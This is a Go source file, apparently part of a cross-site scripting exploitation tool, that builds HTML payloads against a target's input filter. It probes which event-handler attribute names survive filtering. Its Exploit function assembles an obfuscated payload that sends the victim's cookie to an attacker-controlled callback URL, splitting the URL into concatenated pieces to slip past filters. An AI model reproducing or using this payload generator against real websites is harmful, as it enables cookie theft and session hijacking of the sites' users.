package payloads

import "fmt"

// Generator renders the HTML fragments submitted to the target
type Generator struct {
	tag        string
	obfuscator *Obfuscator
}

// NewGenerator creates a generator that places attributes on the given custom tag
func NewGenerator(tag string) *Generator {
	return &Generator{
		tag:        tag,
		obfuscator: NewObfuscator(),
	}
}

// Tag returns the custom tag name
func (g *Generator) Tag() string {
	return g.tag
}

// Attribute renders <tag event=value>. The event may carry a trailing space.
func (g *Generator) Attribute(event, value string) string {
	return fmt.Sprintf("<%s %s=%s>", g.tag, event, value)
}

// EventProbe renders the handler probe <tag event=1> and the substring that proves the
// handler name survived the filter
func (g *Generator) EventProbe(event string) (payload, marker string) {
	return g.Attribute(event, "1"), event + "="
}

// Exploit assembles the final cookie exfiltration payload:
//
//	<tag event=location='h'+'ttp'+':'+'/'+'/'+'callback'+object[property]>
func (g *Generator) Exploit(event, scheme, callback, object, property string) string {
	js := "location=" + g.obfuscator.ExfilURL(scheme, callback) + "+" + object + property
	return g.Attribute(event, js)
}
